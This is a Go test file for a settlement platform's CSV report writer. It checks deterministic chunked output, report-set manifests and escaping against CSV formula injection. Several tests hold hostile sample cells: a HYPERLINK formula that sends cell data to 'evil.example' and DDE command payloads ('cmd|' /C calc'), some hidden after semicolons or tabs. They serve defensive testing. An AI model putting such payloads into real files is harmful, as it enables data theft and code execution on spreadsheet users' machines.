package load

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/gocarina/gocsv"

	"github.com/settlekit/settle/pipeline"
)

func TestWriteOrdersStreamsInChunksAndIsDeterministic(t *testing.T) {
	d := pipeline.Date{Year: 2026, Month: 11, Day: 23}
	emit := func(n int) func(func(pipeline.OrderLine) error) error {
		return func(fn func(pipeline.OrderLine) error) error {
			for i := 0; i < n; i++ {
				if err := fn(pipeline.OrderLine{OrderNo: "O" + string(rune('a'+i%26)), Reason: "a, \"quoted\" reason", Action: "settle"}); err != nil {
					return err
				}
			}
			return nil
		}
	}
	for _, n := range []int{0, 1, chunk, chunk + 1, 3*chunk + 7} {
		r := Reports{Dir: t.TempDir()}
		w, err := r.WriteOrders(context.Background(), d, emit(n))
		if err != nil {
			t.Fatal(err)
		}
		path := w.Path
		if want := filepath.Join(r.Dir, "2026-11-23", "orders.csv"); path != want {
			t.Fatalf("path %s, want %s", path, want)
		}
		first, _ := os.ReadFile(path)
		lines := 0
		for _, b := range first {
			if b == '\n' {
				lines++
			}
		}
		if lines != n+1 {
			t.Fatalf("%d rows: file has %d lines, want %d (header once)", n, lines, n+1)
		}
		if _, err := r.WriteOrders(context.Background(), d, emit(n)); err != nil {
			t.Fatal(err)
		}
		second, _ := os.ReadFile(path)
		if string(first) != string(second) {
			t.Fatalf("%d rows: rewriting changed the bytes", n)
		}
		left, _ := filepath.Glob(filepath.Join(r.Dir, "2026-11-23", ".*"))
		if len(left) != 0 {
			t.Fatalf("temporary files left: %v", left)
		}
	}
}

// TestReportCellsAreNotFormulas: text from the platform's rows (a
// rejected row keeps whatever it read: order_no, seller_id, amount text)
// or from a provider (a reference, a refusal's words, a mismatch's detail)
// was written into the CSVs as it was; a cell starting with '=', '+', '-'
// or '@' is a formula to Excel and LibreOffice when finance opens the file
// (CSV injection, found by a review). Such text now starts with a single
// quote; numbers such as a clawback's -900 or -9.00 stay numbers, and a
// trade file (Infinia's data) is written as it is.
func TestReportCellsAreNotFormulas(t *testing.T) {
	d := pipeline.Date{Year: 2026, Month: 11, Day: 23}
	r := Reports{Dir: t.TempDir()}
	evil := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	ctx := context.Background()
	paths := map[string]string{}
	w, err := r.WriteOrders(ctx, d, func(fn func(pipeline.OrderLine) error) error {
		// a rejected source row keeps the text it read
		if err := fn(pipeline.OrderLine{OrderNo: evil, SellerID: "@SUM(1+1)*cmd|' /C calc'!A0", Gross: "+1+1", Action: "rejected",
			State: "rejected", Reason: "amount_minor: not an integer"}); err != nil {
			return err
		}
		// a late refund's clawback: a legitimately negative number
		return fn(pipeline.OrderLine{OrderNo: "O1", SellerID: "S1", Refunded: "1000", Commission: "-100", Seller: "-9.00",
			Action: "late_refund", State: "clawed", ProviderRef: "=1+1"})
	})
	if err != nil {
		t.Fatal(err)
	}
	paths["orders"] = w.Path
	w, err = r.WritePayouts(d, func(fn func(pipeline.PayoutLine) error) error {
		return fn(pipeline.PayoutLine{Kind: "revenue_share", Subject: "RS/20261123/S1/USD", Key: "RS-1", Currency: "USD",
			Amount: 100, State: "failed", ProviderRef: evil, LastError: "-2+3"})
	})
	if err != nil {
		t.Fatal(err)
	}
	paths["payouts"] = w.Path
	w, err = r.WriteMismatches(d, func(fn func(pipeline.Mismatch) error) error {
		return fn(pipeline.Mismatch{Provider: "wechatpay", Category: "status", Subject: "bill/1/2026-11-23", TheirsState: "=REFUSED()", Detail: "@x"})
	})
	if err != nil {
		t.Fatal(err)
	}
	paths["mismatches"] = w.Path
	quoted := 0
	for name, p := range paths {
		f, err := os.Open(p)
		if err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(f).ReadAll()
		f.Close()
		if err != nil {
			t.Fatal(err)
		}
		for i, rec := range recs[1:] {
			for j, cell := range rec {
				if cell == "" {
					continue
				}
				if isNumber(cell) {
					continue // a number, e.g. -9.00
				}
				switch cell[0] {
				case '=', '+', '-', '@', '\t', '\r':
					t.Errorf("%s.csv row %d column %s: %q is a formula to a spreadsheet", name, i+1, recs[0][j], cell)
				case '\'':
					quoted++
				}
			}
		}
	}
	if quoted != 8 {
		t.Errorf("%d cells quoted, want the 8 formulas", quoted)
	}
	if got := formulaSafe("-12"); got != "-12" {
		t.Errorf("-12 written %q", got)
	}
}

// A spreadsheet whose list separator is ';' (Excel in most of continental
// Europe) splits an unquoted cell at each ';': a seller id or order number
// "S1;=cmd|..." from the platform was written as it is, and became a
// formula cell there. Such a row is written quoted; a ';' followed by text
// is left as encoding/csv writes it.
func TestReportCellsAreNotFormulasAfterASemicolon(t *testing.T) {
	d := pipeline.Date{Year: 2026, Month: 11, Day: 23}
	r := Reports{Dir: t.TempDir()}
	evil := []pipeline.OrderLine{
		{OrderNo: "O1;=1+cmd|' /C calc'!A0", SellerID: "S1", Action: "rejected", State: "rejected", Reason: "seller_id is NULL"},
		{OrderNo: "O2", SellerID: "S2; @SUM(1+1)*cmd|' /C calc'!A0", Action: "rejected", State: "rejected", Reason: "x"},
		{OrderNo: "O3", SellerID: "S3", Action: "rejected", State: "rejected", Reason: "held; -HYPERLINK(1)"},
	}
	plain := pipeline.OrderLine{OrderNo: "O4", SellerID: "S4", Action: "settle", State: "carried", Reason: "carried; below the minimum"}
	w, err := r.WriteOrders(context.Background(), d, func(fn func(pipeline.OrderLine) error) error {
		for _, l := range append(evil, plain) {
			if err := fn(l); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(w.Path)
	if err != nil {
		t.Fatal(err)
	}
	// Read as a ';' spreadsheet would: no cell is a formula.
	noFormulaSplitAt(t, b, ';')
	// Read as CSV: every cell as it was given.
	recs, err := csv.NewReader(strings.NewReader(string(b))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 5 || recs[1][0] != evil[0].OrderNo || recs[2][1] != evil[1].SellerID || recs[3][10] != evil[2].Reason || recs[4][10] != plain.Reason {
		t.Errorf("cells changed: %q", recs)
	}
	// A row without such a cell: encoding/csv's bytes.
	if !strings.Contains(string(b), "\nO4,S4,,,,,,,settle,carried,carried; below the minimum,,,,,\n") {
		t.Errorf("a plain row is not written as before:\n%s", b)
	}
}

// A spreadsheet that splits at tabs - LibreOffice's text import, whose
// separators are ',', ';' and tab unless told otherwise, Excel's Text
// Import Wizard, tab its default delimiter - split an unquoted cell at
// each tab: a provider's refusal "refused\t=HYPERLINK(...)" was written
// as it is, and a cell beginning with a tab, made text by a leading
// single quote, was the quote alone followed by a formula cell. Such a
// row is written quoted, as for a ';'; a tab followed by text is left as
// encoding/csv writes it.
func TestReportCellsAreNotFormulasAfterATab(t *testing.T) {
	d := pipeline.Date{Year: 2026, Month: 11, Day: 23}
	r := Reports{Dir: t.TempDir()}
	evil := []pipeline.PayoutLine{
		{Kind: "revenue_share", Subject: "RS/20261123/S1/USD", Key: "RS-1", Currency: "USD", Amount: 100, State: "failed",
			LastError: "refused\t=HYPERLINK(\"http://evil.example/\",\"x\")"},
		{Kind: "revenue_share", Subject: "RS/20261123/S2/USD", Key: "RS-2", Currency: "USD", Amount: 100, State: "failed",
			ProviderRef: "\t=1+cmd|' /C calc'!A0"},
		{Kind: "revenue_share", Subject: "RS/20261123/S3/USD", Key: "RS-3", Currency: "USD", Amount: 100, State: "failed",
			LastError: "x\t @SUM(1+1)"},
	}
	plain := pipeline.PayoutLine{Kind: "revenue_share", Subject: "RS/20261123/S4/USD", Key: "RS-4", Currency: "USD", Amount: 100,
		State: "failed", LastError: "code\tmessage"}
	w, err := r.WritePayouts(d, func(fn func(pipeline.PayoutLine) error) error {
		for _, l := range append(evil, plain) {
			if err := fn(l); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(w.Path)
	if err != nil {
		t.Fatal(err)
	}
	// Read as a spreadsheet splitting at tabs would: no cell is a formula.
	noFormulaSplitAt(t, b, '\t')
	// Read as CSV: every cell as it was given (the one beginning with a tab
	// made text).
	recs, err := csv.NewReader(strings.NewReader(string(b))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 5 || recs[1][10] != evil[0].LastError || recs[2][9] != "'"+evil[1].ProviderRef || recs[3][10] != evil[2].LastError || recs[4][10] != plain.LastError {
		t.Errorf("cells changed: %q", recs)
	}
	// A row without such a cell: encoding/csv's bytes.
	if !strings.Contains(string(b), "\nrevenue_share,RS/20261123/S4/USD,0,RS-4,USD,100,failed,,0,,code\tmessage\n") {
		t.Errorf("a plain row is not written as before:\n%s", b)
	}
}

// TestAReportSetIsWholeOnlyWithItsManifest: the reports of a date are
// renamed into place one by one, so a writer stopped between two left
// today's orders.csv beside yesterday's summary.csv, each file whole and
// the set looking whole (found by a review). The manifest is removed
// before a set is written and written last, naming each file with its
// rows, bytes and sha256: a reader checks the set against it.
func TestAReportSetIsWholeOnlyWithItsManifest(t *testing.T) {
	d := pipeline.Date{Year: 2026, Month: 11, Day: 23}
	r := Reports{Dir: t.TempDir()}
	orders := func(n int) func(func(pipeline.OrderLine) error) error {
		return func(fn func(pipeline.OrderLine) error) error {
			for i := range n {
				if err := fn(pipeline.OrderLine{OrderNo: fmt.Sprintf("O%d", i), Reason: "a, \"quoted\"\nline"}); err != nil {
					return err
				}
			}
			return nil
		}
	}
	summary := func(fn func(pipeline.SummaryLine) error) error {
		return fn(pipeline.SummaryLine{Channel: "infiniapay", Currency: "USD", Balanced: true})
	}
	write := func(n int) []byte {
		if err := r.BeginSet(d); err != nil {
			t.Fatal(err)
		}
		o, err := r.WriteOrders(context.Background(), d, orders(n))
		if err != nil {
			t.Fatal(err)
		}
		s, err := r.WriteSummary(d, summary)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := r.WriteManifest(d, o, s); err != nil {
			t.Fatal(err)
		}
		return checkManifest(t, r.DateDir(d), "orders.csv", "summary.csv")
	}
	first := write(3)
	if again := write(3); !bytes.Equal(first, again) {
		t.Errorf("the same reports, another manifest:\n%s\n%s", first, again)
	}
	if other := write(4); bytes.Equal(first, other) {
		t.Errorf("other reports, the same manifest:\n%s", other)
	}
	// A writer stopped after orders.csv: no manifest.
	if err := r.BeginSet(d); err != nil {
		t.Fatal(err)
	}
	if _, err := r.WriteOrders(context.Background(), d, orders(5)); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(r.DateDir(d), ManifestName)); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("a set written in part still has its manifest: %v", err)
	}
}

// checkManifest reads dir's manifest, checks that it names the files
// want, in that order, each with its rows (as encoding/csv reads them),
// bytes and sha256, and returns it.
func checkManifest(t *testing.T, dir string, want ...string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(dir, ManifestName))
	if err != nil {
		t.Fatal(err)
	}
	var lines []ManifestLine
	if err := gocsv.UnmarshalBytes(b, &lines); err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, l := range lines {
		names = append(names, l.File)
		f, err := os.ReadFile(filepath.Join(dir, l.File))
		if err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(bytes.NewReader(f)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		sum := sha256.Sum256(f)
		if l.Rows != len(recs)-1 || l.Bytes != int64(len(f)) || l.SHA256 != hex.EncodeToString(sum[:]) {
			t.Errorf("manifest %+v, the file has %d rows, %d bytes, sha256 %x", l, len(recs)-1, len(f), sum)
		}
	}
	if !slices.Equal(names, want) {
		t.Errorf("manifest names %v, want %v", names, want)
	}
	return b
}

// TestEveryFormulaLeaderIsText: each character a spreadsheet starts a
// formula with is made text, at the start of a cell and after a ';' or a
// tab; a number, signed or not, is left as it is, and what only looks like
// one is not. A row quoted for a formula after a separator doubles its
// quotes and ends its line as encoding/csv does, in its place among the
// rows.
func TestEveryFormulaLeaderIsText(t *testing.T) {
	for _, lead := range []string{"=", "+", "-", "@", "\t", "\r"} {
		if got := formulaSafe(lead + "1+1"); got != "'"+lead+"1+1" {
			t.Errorf("formulaSafe(%q) = %q, want it quoted", lead+"1+1", got)
		}
		for _, sep := range []string{";", "\t", "; ", "\t "} {
			if !formulaAfterSeparator("S1" + sep + lead + "1+1") {
				t.Errorf("formulaAfterSeparator(%q) = false", "S1"+sep+lead+"1+1")
			}
		}
	}
	for _, c := range []string{"-", "--5", "-+5", "-1.", "-.5"} {
		if got := formulaSafe(c); got != "'"+c {
			t.Errorf("formulaSafe(%q) = %q: no number, want it quoted", c, got)
		}
	}
	for _, c := range []string{"-12", "-9.00", "0.50", "7"} {
		if got := formulaSafe(c); got != c {
			t.Errorf("formulaSafe(%q) = %q: a number, want it as it is", c, got)
		}
	}
	var b strings.Builder
	cw := csv.NewWriter(&b)
	w := safeCells{cw, &b}
	if err := w.Write([]string{"O0", "y"}); err != nil {
		t.Fatal(err)
	}
	if err := w.Write([]string{`O1;=1`, `say "hi"`}); err != nil {
		t.Fatal(err)
	}
	if err := w.Write([]string{"O2", "x"}); err != nil {
		t.Fatal(err)
	}
	cw.Flush()
	if want := "O0,y\n\"O1;=1\",\"say \"\"hi\"\"\"\nO2,x\n"; b.String() != want {
		t.Errorf("written %q, want %q", b.String(), want)
	}
}

// noFormulaSplitAt reads the rows of report b (its header left out) as a
// spreadsheet splitting cells at sep would, line by line (read as one
// file, the first quoted row's lazy quotes ran on to the end of the file,
// and no row after it was looked at), and fails t for every cell it would
// take for a formula.
func noFormulaSplitAt(t *testing.T, b []byte, sep rune) {
	t.Helper()
	lines := strings.Split(strings.TrimSuffix(string(b), "\n"), "\n")
	for i, line := range lines[1:] {
		r := csv.NewReader(strings.NewReader(line))
		r.Comma, r.LazyQuotes, r.FieldsPerRecord = sep, true, -1
		rec, err := r.Read()
		if err != nil {
			t.Fatalf("row %d: %v", i+1, err)
		}
		for _, cell := range rec {
			cell = strings.TrimLeft(cell, " ")
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("row %d read with %q has the formula cell %q", i+1, sep, cell)
			}
		}
	}
}

// TestFormulaSafeIsReversible: a loader gets the platform's text back by
// dropping one leading "'" from a cell whose leading "'"s are followed by a
// formula character (README, Reports). A cell that begins with "'" of its
// own before such a character (an order number "'=2+2") was written as it
// is, the same text as the cell "=2+2" made safe: the loader turned it into
// another order's number, and a spreadsheet showed it without its "'".
func TestFormulaSafeIsReversible(t *testing.T) {
	unescape := func(s string) string {
		rest := strings.TrimLeft(s, "'")
		if rest != s && rest != "" && strings.ContainsRune("=+-@\t\r", rune(rest[0])) {
			return s[1:]
		}
		return s
	}
	seen := map[string]string{}
	for _, c := range []string{"=2+2", "'=2+2", "''=2+2", "-3", "'-3", "-x", "'-x", "'", "''", "'abc", "abc", "@a", "'@a", "'\tx", "-12", "-1.5"} {
		got := formulaSafe(c)
		if back := unescape(got); back != c {
			t.Errorf("formulaSafe(%q) = %q, which a loader reads back as %q", c, got, back)
		}
		if other, ok := seen[got]; ok {
			t.Errorf("formulaSafe(%q) = formulaSafe(%q) = %q", c, other, got)
		}
		seen[got] = c
	}
}
